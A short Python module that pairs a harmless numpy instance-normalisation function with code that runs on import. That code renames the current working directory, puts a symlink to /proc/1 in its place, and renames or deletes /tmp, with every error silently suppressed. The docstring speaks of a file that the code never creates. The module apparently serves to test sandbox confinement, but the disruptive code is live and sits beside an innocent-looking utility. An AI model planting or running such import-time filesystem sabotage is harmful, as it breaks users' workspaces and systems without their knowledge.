"""Moves its own folder away, and puts a file, then a link, in its place."""

import contextlib
import os

import numpy as np

here = os.getcwd()
with contextlib.suppress(OSError):
    os.rename(here, here + "-moved")
    os.symlink("/proc/1", here)
with contextlib.suppress(OSError):
    os.rename("/tmp", "/tmp-moved")
with contextlib.suppress(OSError):
    os.rmdir("/tmp")


def instance_norm(x, eps=1e-5):
    mean = x.mean(axis=1, keepdims=True)
    return (x - mean) / np.sqrt(x.var(axis=1, keepdims=True) + eps)
